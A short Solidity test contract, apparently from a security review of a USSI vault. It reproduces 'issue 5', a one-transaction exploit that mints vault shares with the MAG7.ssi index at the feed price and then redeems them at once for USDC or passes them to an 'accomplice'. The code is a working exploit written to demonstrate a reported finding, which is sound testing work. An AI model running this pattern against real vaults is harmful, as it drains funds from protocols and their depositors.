// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IUssiVault} from "../interfaces/IUssiVault.sol";

/// @notice Test-only: the one-transaction exploit of the USSI security review (issue 5): mint USSI
/// with MAG7.ssi at the feed price, then redeem it at once for USDC (or pass it on to an accomplice).
contract UssiIndexArbitrageur {
    /// @notice mintWithIndex then instant redeem of the same shares, in one transaction.
    function mintAndRedeem(IUssiVault vault, IERC20 index, uint256 indexIn) external returns (uint256 assets) {
        index.approve(address(vault), indexIn);
        uint256 shares = vault.mintWithIndex(indexIn, 0);
        assets = vault.redeem(shares, 0);
    }

    /// @notice mintWithIndex then a transfer of the shares to `accomplice` (who would redeem), in one transaction.
    function mintAndTransfer(IUssiVault vault, IERC20 index, uint256 indexIn, address accomplice) external {
        index.approve(address(vault), indexIn);
        uint256 shares = vault.mintWithIndex(indexIn, 0);
        IERC20(address(vault)).transfer(accomplice, shares);
    }
}
